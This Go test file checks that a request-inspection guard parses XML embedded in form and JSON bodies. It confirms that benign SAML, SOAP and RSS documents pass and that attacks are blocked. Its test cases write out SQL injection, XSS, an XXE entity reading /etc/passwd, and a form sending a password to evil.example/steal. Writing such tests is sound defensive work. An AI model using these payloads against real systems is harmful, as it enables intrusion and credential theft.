package guard

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"net/url"
	"os"
	"strings"
	"testing"
)

// TestXMLDocumentsInStrings: an XML document inside a string — a SAML
// message in a form's SAMLResponse (base64, the POST binding), a SOAP
// envelope in a JSON member — is judged by its parts, as an XML body is:
// the SAML message passes, an attack in one of its texts is found where it
// is, and markup in a browser's namespace is still judged as text.
func TestXMLDocumentsInStrings(t *testing.T) {
	g, _ := newTestGuard(t)
	raw, err := os.ReadFile("testdata/saml_response.xml")
	if err != nil {
		t.Fatal(err)
	}
	saml := func(nameID string) string { return strings.Replace(string(raw), "NAMEID", nameID, 1) }
	form := func(doc string) *Invocation {
		body := "SAMLResponse=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(doc))) + "&RelayState=%2Fdashboard"
		return &Invocation{Source: SourceHTTP, Method: "POST", Path: "/saml/acs", ContentType: "application/x-www-form-urlencoded", Body: []byte(body)}
	}
	jsonBody := func(member string) *Invocation {
		b, _ := json.Marshal(map[string]string{"message": member})
		return &Invocation{Source: SourceHTTP, Method: "POST", Path: "/soap", ContentType: "application/json", Body: b}
	}
	soap := func(text string) string {
		return `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope" xmlns:m="https://www.example.org/stock">` +
			`<soap:Body><m:GetStockPrice><m:StockName>` + text + `</m:StockName></m:GetStockPrice></soap:Body></soap:Envelope>`
	}
	tests := []struct {
		name     string
		inv      *Invocation
		category Category // "" when the invocation must pass
		location string
	}{
		{"SAML POST binding", form(saml("sean.obrien@example.com")), "", ""},
		{"SOAP envelope in JSON", jsonBody(soap("T&amp;T Inc.")), "", ""},
		{"metadata with a default namespace", jsonBody(`<EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://sp.example.com/"><SPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/></EntityDescriptor>`), "", ""},
		{"SQLi in a SAML NameID", form(saml("admin' OR '1'='1")), SQLi, "body.SAMLResponse<base64>.Response.Assertion.Subject.NameID"},
		{"XSS in a SOAP text", jsonBody(soap("&lt;script&gt;alert(1)&lt;/script&gt;")), XSS, "body.message<xml>.Envelope.Body.GetStockPrice.StockName"},
		{"XXE in a base64 document", form(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&x;</samlp:Response>`), XXE, ""},
		{"SVG is markup for a browser", jsonBody(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), XSS, "body.message"},
		{"a document without declaration or namespace", jsonBody(`<note><to>Tove</to><heading>Reminder</heading><body>Don't forget me this weekend!</body></note>`), "", ""},
		{"RSS without declaration", jsonBody(`<rss version="2.0"><channel><title>News</title><link>https://example.com/</link></channel></rss>`), "", ""},
		{"a script in such a document", jsonBody(`<note><script>alert(1)</script></note>`), XSS, ""},
		{"a form posting elsewhere in such a document", jsonBody(`<note><form action="https://evil.example/steal"><input name="pw"/></form></note>`), XSS, ""},
		{"a meta refresh in such a document", jsonBody(`<note><meta http-equiv="refresh" content="0;url=https://evil.example/"/></note>`), XSS, ""},
		{"a root the XSS rules read as a tag is markup for a browser", jsonBody(`<vmlframe src="https://evil.example/x.vml#xss"></vmlframe>`), XSS, "body.message"},
		{"an HTML root is markup for a browser", jsonBody(`<html><body><form action="https://evil.example/"></form></body></html>`), XSS, "body.message"},
		{"a root that does not end the string is text", jsonBody(`<note>hi</note><form action="https://evil.example/"></form>`), XSS, "body.message"},
		{"XML Events is markup for a browser", jsonBody(`<listener event="load" handler="#y" xmlns="http://www.w3.org/2001/xml-events" observer="x"/>`), XSS, "body.message"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := g.Inspect(context.Background(), tt.inv)
			if tt.category == "" {
				if d.Action != ActionAllow || len(d.Findings) != 0 {
					t.Fatalf("action %s, findings %+v; want allow", d.Action, d.Findings)
				}
				return
			}
			if d.Action != ActionBlock {
				t.Fatalf("action %s (%s); want block", d.Action, d.Reason)
			}
			for _, f := range d.Findings {
				if f.Category == tt.category && (tt.location == "" || f.Location == tt.location) {
					return
				}
			}
			t.Errorf("findings %+v; want %s at %q", d.Findings, tt.category, tt.location)
		})
	}
}
